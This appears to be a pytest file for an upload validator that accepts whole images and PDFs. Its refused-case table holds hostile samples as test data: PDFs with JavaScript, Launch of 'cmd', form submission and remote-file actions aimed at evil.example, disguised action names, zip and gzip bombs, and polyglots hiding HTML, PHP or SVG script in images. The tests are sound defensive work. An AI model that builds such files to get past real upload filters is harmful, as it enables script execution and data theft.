"""A file is what is in it, whole, of one kind, and never unpacked to find out."""

from __future__ import annotations

import contextlib
import io
import random
import struct
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable
from time import process_time

import pytest

from admin.means.document_files import MOST_BYTES, DocumentFileRefused, MediaType, judge
from tests import scans


def a_zip(name: str = "a.txt", content: bytes = b"x") -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr(name, content)
    return made.getvalue()


Content = bytes | Callable[[], bytes]  # large ones are made when they are asked, not collected


def bytes_of(content: Content) -> bytes:
    return content if isinstance(content, bytes) else content()


OBJECTS = b"5 0 <</Type/Page/Parent 2 0 R>>"
OF_OBJECTS = b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode"
SCRIPT = b"5 0 <</S/JavaScript/JS(app.alert(1))>>"
OUTLINE = b"7 0 obj<</First 8 0 R>>endobj\n"


def pdf_with(entry: bytes) -> bytes:
    """A PDF whose catalogue, or so, has this."""
    return scans.pdf(b"3 0 obj<<" + entry + b">>endobj\n")


TAKEN: dict[str, tuple[Content, str | None]] = {
    **{f"{kind}": (content, kind) for kind, content in scans.GOOD.items()},
    "tiff of the other order": (scans.tiff(order=">"), "image/tiff"),
    "png with words": (scans.png(extra=b"\0\0\0\x05tEXtk\0abc\0\0\0\0"), "image/png"),
    "jpeg with a comment": (scans.jpeg(comment=b"scanned by a phone"), "image/jpeg"),
    "jpeg with a second picture behind it": (scans.jpeg() + scans.jpeg(), "image/jpeg"),
    "jpeg with filling": (scans.jpeg().replace(b"\xff\xc0", b"\xff\xff\xc0"), "image/jpeg"),
    "bmp from the top": (scans.bmp(height=-3), "image/bmp"),
    "pdf with an open action": (scans.pdf(b"3 0 obj<</OpenAction[1 0 R/Fit]>>endobj\n"), None),
    "pdf of compressed objects": (scans.pdf_stream(OBJECTS, OF_OBJECTS), None),
    "pdf of such in a list of one": (
        scans.pdf_stream(OBJECTS, b"/Type/ObjStm/First 4/Filter[/FlateDecode]"),
        None,
    ),
    "pdf of objects as they are": (
        scans.pdf_stream(OBJECTS, b"/Type/ObjStm/First 4", packed=False),
        None,
    ),
    "pdf of a photo": (scans.pdf_stream(scans.jpeg(), b"/Filter/DCTDecode", packed=False), None),
    "pdf of a large page": (lambda: scans.pdf_stream(b"\xff" * 30_000_000), None),
    "pdf of a photo behind objects": (
        scans.pdf(OUTLINE + scans.pdf_stream(b"x", b"/Filter/LZWDecode", packed=False)),
        None,
    ),
    "pdf with a link": (scans.pdf(b"3 0 obj<</S/URI/URI(https://a.example)>>endobj\n"), None),
    "pdf with short names by chance": (
        scans.pdf_stream(b"/AA /XFA /OpenAction", packed=False),
        None,
    ),
    "pdf with a line behind it": (scans.pdf() + b"\r\n", None),
    "as large as it may be": (
        lambda: scans.jpeg() + b"\0" * (MOST_BYTES - len(scans.jpeg())),
        None,
    ),
    "PK in it and no zip": (scans.png() + b"PK\x05\x06" + b"\xff" * 30, "image/png"),
}

REFUSED: dict[str, tuple[Content, str]] = {
    "nothing": (b"", "empty"),
    "too large": (lambda: scans.jpeg() + b"\0" * MOST_BYTES, "too_large"),
    "words": (b"Dit is geen scan", "unknown_type"),
    "a page": (b"<!DOCTYPE html><script>alert(1)</script>", "unknown_type"),
    "svg": (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "unknown_type"),
    "gif": (b"GIF89a\1\0\1\0\0\0\0;", "unknown_type"),
    "a program": (b"MZ\x90\0", "unknown_type"),
    "a zip": (a_zip(), "unknown_type"),
    "a bomb of a zip": (lambda: a_zip("0", b"\0" * 10_000_000), "unknown_type"),
    "a bomb of gzip": (b"\x1f\x8b\x08" + zlib.compress(b"\0" * 1_000_000), "unknown_type"),
    "BigTIFF": (b"II+\0\x08\0\0\0" + b"\0" * 40, "unknown_type"),
    "pdf not at the begin": (b"x" + scans.pdf(), "unknown_type"),
    "png and zip": (scans.png() + a_zip(), "mixed"),
    "jpeg and zip with a comment": (scans.jpeg() + a_zip()[:-2] + b"\x03\0abc", "mixed"),
    "pdf and zip": (scans.pdf() + a_zip(), "mixed"),
    "pdf in a jpeg": (scans.jpeg(comment=scans.pdf()), "mixed"),
    "page in a jpeg": (scans.jpeg(comment=b"<ScRiPt>alert(1)</script>"), "mixed"),
    "page behind a png": (scans.png() + b"<html>", "mixed"),
    "page in a bmp": (scans.bmp() + b"<?php echo 1;", "mixed"),
    "page in the head of a pdf": (scans.pdf(b"<html>"), "mixed"),
    "png of many pixels": (scans.png(100_000, 100_000), "too_many_pixels"),
    "jpeg of many pixels": (scans.jpeg(65_000, 65_000), "too_many_pixels"),
    "tiff of many pixels": (scans.tiff(2**31, 65_000), "too_many_pixels"),
    "bmp of many pixels": (scans.bmp(2**30, -(2**30)), "too_many_pixels"),
    "png without height": (scans.png(4, 0), "damaged"),
    "bmp that says more than there is": (scans.bmp(400, 300), "damaged"),
    "bmp of another head": (b"BM" + b"\0" * 12 + struct.pack("<I", 99) + b"\0" * 60, "damaged"),
    "half a png": (scans.png()[:40], "damaged"),
    "png without a head": (b"\x89PNG\r\n\x1a\n" + scans.png()[33:], "damaged"),
    "half a jpeg": (scans.jpeg()[:25], "damaged"),
    "jpeg without an end": (scans.jpeg()[:-2], "damaged"),
    "jpeg without a frame": (scans.jpeg().replace(b"\xff\xc0", b"\xff\xe1"), "damaged"),
    "jpeg with an empty segment": (b"\xff\xd8\xff\xe0\0\0", "damaged"),
    "tiff in a circle": (scans.tiff(following=8), "damaged"),
    "tiff that begins beyond its end": (b"II*\0\xff\xff\xff\xff", "damaged"),
    "tiff without a page": (b"II*\0\0\0\0\0", "damaged"),
    "pdf without an end": (scans.pdf()[:-7], "damaged"),
    "pdf with a password": (scans.pdf(b"3 0 obj<</Encrypt 4 0 R>>endobj\n"), "protected"),
    "pdf with a script": (scans.pdf(b"3 0 obj<</S/JavaScript/JS(app.alert)>>endobj\n"), "active"),
    "pdf with a hidden script": (scans.pdf(b"3 0 obj<</S/J#61va#53cript>>endobj\n"), "active"),
    "pdf that starts a program": (scans.pdf(b"3 0 obj<</S/Launch/F(cmd)>>endobj\n"), "active"),
    "pdf that goes to another": (pdf_with(b"/S/GoToR/F(//evil.example/x.pdf)"), "active"),
    "pdf that goes into another": (pdf_with(b"/S/GoToE/T<<>>"), "active"),
    "pdf that sends a form": (pdf_with(b"/S /SubmitForm /F(https://evil.example)"), "active"),
    "pdf that fetches values": (pdf_with(b"/S/ImportData/F(x)"), "active"),
    "pdf that plays": (pdf_with(b"/S/Rendition/R 9 0 R"), "active"),
    "pdf with an action when it opens": (pdf_with(b"/OpenAction 5 0 R"), "active"),
    "the same, in place": (pdf_with(b"/OpenAction % now\r\n <</S/URI/URI(x)>>"), "active"),
    "the same, hidden": (pdf_with(b"/Open#41ction<</S/URI/URI(x)>>"), "active"),
    "the same, far away": (pdf_with(b"/OpenAction" + b" " * 5000 + b"5 0 R"), "active"),
    "pdf with actions of a page": (pdf_with(b"/AA<</O 5 0 R>>"), "active"),
    "pdf with names without end": (pdf_with(b"/AA " * 1001), "active"),
    "pdf with a form that acts": (pdf_with(b"/XFA 5 0 R"), "active"),
    "pdf with parts of such a form": (pdf_with(b"/XFA[(template)5 0 R]"), "active"),
    "pdf with a script among objects": (scans.pdf_stream(SCRIPT, OF_OBJECTS), "active"),
    "the same, that says it is a page": (scans.pdf_stream(SCRIPT), "active"),
    "the same, behind much": (
        lambda: scans.pdf_stream(b" " * 2_000_000 + SCRIPT, OF_OBJECTS),
        "active",
    ),
    "the same, across two pieces": (scans.pdf_stream(b" " * 262_136 + SCRIPT), "active"),
    "a script as it is": (
        scans.pdf_stream(SCRIPT, b"/Type/ObjStm/First 4", packed=False),
        "active",
    ),
    "objects of another filter": (
        scans.pdf_stream(OBJECTS, b"/Type/ObjStm/First 4/Filter/LZWDecode", packed=False),
        "hidden",
    ),
    "objects of two filters": (
        scans.pdf_stream(OBJECTS, b"/First 4/Filter[/FlateDecode/ASCIIHexDecode]"),
        "hidden",
    ),
    "objects that are scrambled": (
        scans.pdf_stream(OBJECTS, OF_OBJECTS + b"/DecodeParms<</Predictor 12>>"),
        "hidden",
    ),
    "objects that are cut off": (
        scans.pdf_stream(zlib.compress(OBJECTS)[:-6], OF_OBJECTS, packed=False),
        "hidden",
    ),
    "objects that swell": (lambda: scans.pdf_stream(b" " * 9_000_000, OF_OBJECTS), "hidden"),
    "streams that swell together": (
        lambda: scans.pdf(
            b"".join(scans.pdf_stream(b" " * 8_400_000) for _ in range(9))
            + scans.pdf_stream(SCRIPT, OF_OBJECTS)
        ),
        "hidden",
    ),
    "more streams than anybody scans": (scans.pdf(b"stream\n" * 2001), "hidden"),
    "pdf with a file in it": (scans.pdf(b"3 0 obj<</Type/EmbeddedFile>>endobj\n"), "active"),
}


@pytest.mark.parametrize(("content", "kind"), TAKEN.values(), ids=TAKEN)
def test_a_whole_file_is_taken(content: Content, kind: str | None) -> None:
    found = judge(bytes_of(content))
    assert kind is None or found == MediaType(kind)


@pytest.mark.parametrize(("content", "reason"), REFUSED.values(), ids=REFUSED)
def test_anything_else_is_refused(content: Content, reason: str) -> None:
    with pytest.raises(DocumentFileRefused) as refused:
        judge(bytes_of(content))
    assert refused.value.reason == reason


@pytest.mark.parametrize("content", scans.GOOD.values(), ids=scans.GOOD)
def test_a_part_of_a_file_breaks_nothing(content: bytes) -> None:
    """Whatever length it is cut to: taken or refused, and nothing else happens."""
    for length in range(len(content)):
        try:
            judge(content[:length])
        except DocumentFileRefused as refused:
            assert refused.reason in {"empty", "damaged", "unknown_type"}


@pytest.mark.parametrize("kind", MediaType)
def test_an_ending_is_that_of_the_type(kind: MediaType) -> None:
    assert kind.ending == f".{kind.value.split('/')[1]}"


def test_what_stands_in_a_picture_by_chance_is_no_page() -> None:
    """Bytes of a photo are as good as random: in one of a hundred of 5 MB a short tag stands."""
    by_chance = random.Random(57)
    for tag in (b"<svg", b"<sVG", b"<HTML", b"<?php"):
        parts = [by_chance.randbytes(25_000) for _ in range(200)]
        content = scans.jpeg(scan=tag.join(parts))
        assert content.count(tag) >= 199
        assert judge(content) is MediaType.JPEG


@pytest.mark.parametrize("tag", [b"<svg onload=alert(1)>", b"<HTML\n><body>", b"<?php echo 1;"])
def test_a_page_far_in_a_picture_is_one(tag: bytes) -> None:
    with pytest.raises(DocumentFileRefused) as refused:
        judge(scans.jpeg(scan=b"\x80" * 2000 + tag))
    assert refused.value.reason == "mixed"


@pytest.mark.parametrize(
    "content",
    [
        lambda: scans.pdf(b"/AA%" * 1_000_000),
        lambda: scans.pdf(b"/AA" + b"1" * 4_000_000),
        lambda: scans.pdf(b"stream\n" * 700_000),
        lambda: scans.pdf(b"".join(b"1%1 0 obj /AA%\n" for _ in range(300_000))),
        lambda: scans.pdf(b"".join(scans.pdf_stream(b"/AA%" * 2_000_000) for _ in range(9))),
    ],
    ids=["comments", "digits", "streams", "lines", "inflated"],
)
def test_no_pdf_takes_long(content: Content) -> None:
    content = bytes_of(content)
    began = process_time()
    with contextlib.suppress(DocumentFileRefused):
        judge(content)
    assert process_time() - began < 5


def test_what_swells_is_in_memory_a_piece_at_a_time() -> None:
    content = scans.pdf_stream(b" " * 200_000_000)
    tracemalloc.start()
    try:
        judge(content)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 8 * 2**20
